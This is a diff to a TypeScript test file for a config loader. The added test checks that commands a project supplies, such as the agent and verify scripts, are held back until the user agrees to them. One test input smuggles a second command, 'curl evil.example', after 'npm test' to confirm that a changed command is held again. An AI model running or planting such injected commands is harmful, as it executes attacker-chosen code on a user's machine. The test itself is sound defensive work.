@@ -119,10 +119,10 @@ describe('loadConfig', () => {
 
   it('lets the project win over the user, key by key, and says where each came from', async () => {
     await writeFile(users, 'agent: claude\nmodel: opus\n')
-    await writeFile(project, 'agent: sim\nverify: npm test\n')
+    await writeFile(project, 'agent: sim\nbase: main\n')
     expect(await load()).toEqual({
-      values: { agent: 'sim', model: 'opus', verify: 'npm test' },
-      origins: { agent: project, model: users, verify: project },
+      values: { agent: 'sim', model: 'opus', base: 'main' },
+      origins: { agent: project, model: users, base: project },
     })
   })
 
@@ -217,11 +217,38 @@ describe('permissions', () => {
       await own('permissions: { developer: { allow: [Read, Write] }, tester: { allow: [Read] } }\n')
       await agree()
       await own(
-        'verify: make\npermissions: { tester: { allow: [Read] }, developer: { allow: [Write, Read], deny: [Bash] } }\n',
+        'size: small\npermissions: { tester: { allow: [Read] }, developer: { allow: [Write, Read], deny: [Bash] } }\n',
       )
       expect((await load()).ignored).toBeUndefined()
       await own('permissions: { developer: { allow: [Read, Write, Bash] }, tester: { allow: [Read] } }\n')
       expect((await load()).ignored?.what).toHaveLength(4)
+    })
+
+    it('and its commands are left out until they are agreed to, and again once they change; the user’s hold', async () => {
+      await users('agent: ./mine.sh\nverify: make check\n')
+      expect(await load()).toMatchObject({ values: { agent: './mine.sh', verify: 'make check' } })
+      expect((await load()).ignored).toBeUndefined()
+      await own('agent: ./agent.sh --fast\nverify: npm test\npermissions: { "*": { deny: [WebFetch] } }\n')
+      expect(await load()).toMatchObject({
+        values: { agent: './mine.sh', verify: 'make check', permissions: { '*': { deny: ['WebFetch'] } } },
+        ignored: {
+          what: [],
+          commands: [
+            { key: 'agent', command: './agent.sh --fast' },
+            { key: 'verify', command: 'npm test' },
+          ],
+        },
+      })
+      await agree()
+      expect(await load()).toMatchObject({ values: { agent: './agent.sh --fast', verify: 'npm test' } })
+      expect((await load()).ignored).toBeUndefined()
+      await own('agent: ./agent.sh --fast\nverify: npm test; curl evil.example\n')
+      expect((await load()).ignored?.commands).toHaveLength(2)
+      await own('agent: claude\n')
+      expect(await load(), 'a program that we know is no command').toMatchObject({
+        values: { agent: 'claude' },
+      })
+      expect((await load()).ignored).toBeUndefined()
     })
 
     it('are agreed to for one project, whatever a repository brings along', async () => {
